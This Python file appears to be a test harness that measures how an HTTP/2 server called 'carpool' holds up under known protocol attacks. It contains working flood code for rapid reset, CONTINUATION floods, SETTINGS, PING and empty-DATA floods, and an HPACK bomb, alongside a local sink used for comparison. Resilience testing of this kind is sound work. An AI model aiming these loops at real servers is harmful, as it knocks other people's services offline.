"""Attacks of clients of HTTP/2, each one connection long; as a program one after the other, from a process of its own:

attacks.py NAME HOST PORT AUTHORITY    after each line on its input: `carpool` attacks there, `sink` a socket that throws
                                       everything away, so that the machine is as busy; `rest` stops. Answers `done`.
"""
import os
import select
import socket
import sys

from harness.h2_client import (CONTINUATION, DATA, END_HEADERS, HEADERS, PING, RST, SETTINGS, WINDOW, Attacker, block, frame,
                               headers, request, text)

PLENTY = 20_000
ENOUGH = 65536  # bytes of an attack that hits nothing


def numbers():
    return range(1, 2 * PLENTY, 2)


def rapid_reset(attacker, authority):
    head = request(authority)
    for stream in numbers():
        if not attacker.send(headers(stream, head) + frame(RST, 0, stream, b"\0\0\0\x08")):
            return


def rapid_reset_of_uploads(attacker, authority):
    head = request(authority, method=b"POST")
    for stream in numbers():
        if not attacker.send(headers(stream, head, end=False) + frame(DATA, 0, stream, b"x") + frame(RST, 0, stream, b"\0\0\0\x08")):
            return


def made_you_reset(attacker, authority):
    head = request(authority)
    for stream in numbers():
        if not attacker.send(headers(stream, head) + frame(WINDOW, 0, stream, b"\x7f\xff\xff\xff")):
            return


def continuations(attacker, authority):
    attacker.send(frame(HEADERS, 1, 1, request(authority)))
    while attacker.send(frame(CONTINUATION, 0, 1, block([(b"x", b"y")])) * 100):
        pass


def settings(attacker, _):
    for _ in range(PLENTY):
        if not attacker.send(frame(SETTINGS, 0, 0) * 10):
            return


def pings(attacker, _):
    for _ in range(PLENTY):
        if not attacker.send(frame(PING, 0, 0, b"12345678") * 10):
            return


def empty_data(attacker, authority):
    attacker.send(headers(1, request(authority, method=b"POST"), end=False))
    for _ in range(PLENTY):
        if not attacker.send(frame(DATA, 0, 1) * 10):
            return


def hpack_bomb(attacker, authority):
    entry = b"\x40" + text(b"x") + text(b"v" * 4000)
    for stream in range(1, 40, 2):
        bomb = request(authority) + (entry if stream == 1 else b"") + b"\xbe" * 8000
        if not attacker.send(frame(HEADERS, 1 | END_HEADERS, stream, bomb)):
            return


KINDS = {rapid_reset: "resets", rapid_reset_of_uploads: "resets", made_you_reset: "resets", continuations: "continuations",
         settings: "control", pings: "control", empty_data: "control", hpack_bomb: "header_list"}


def sink():
    """Returns the address of a process that reads as much of an attack as carpool does, and closes."""
    server = socket.create_server(("127.0.0.1", 0))
    if os.fork() == 0:
        while True:
            peer, _ = server.accept()
            taken, data = 0, b"x"
            with peer:
                while data and taken < ENOUGH:
                    data = peer.recv(65536)
                    taken += len(data)
    return server.getsockname()


def main(name, host, port, authority):
    attack = next(a for a in KINDS if a.__name__ == name)
    targets = {"carpool": (host, int(port)), "sink": sink()}
    target = None
    while True:
        if target is None or select.select([sys.stdin], [], [], 0)[0]:
            word = sys.stdin.readline().strip()
            if not word:
                return
            target = targets.get(word)
            print("done", flush=True)
            continue
        try:
            attacker = Attacker(target)
            attack(attacker, authority.encode())
            attacker.goaway()
        except ConnectionError:  # it was faster than the preface
            pass


if __name__ == "__main__":
    try:
        main(*sys.argv[1:])
    finally:
        os.killpg(0, 15)
